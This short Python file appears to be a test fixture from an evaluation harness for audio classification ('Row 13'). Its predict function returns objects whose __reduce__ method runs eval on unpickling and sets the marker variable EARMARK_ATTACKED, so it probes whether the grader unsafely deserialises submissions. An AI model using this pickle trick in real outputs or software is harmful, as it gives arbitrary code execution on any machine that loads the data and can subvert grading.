"""Row 13: answer with an array of objects, which only a pickle could carry."""

import numpy as np


class Wins:
    def __reduce__(self):
        return eval, ("__import__('os').environ.update(EARMARK_ATTACKED='yes')",)


def predict(audio, sr, classes):
    return np.array([Wins() for _ in classes], dtype=object)
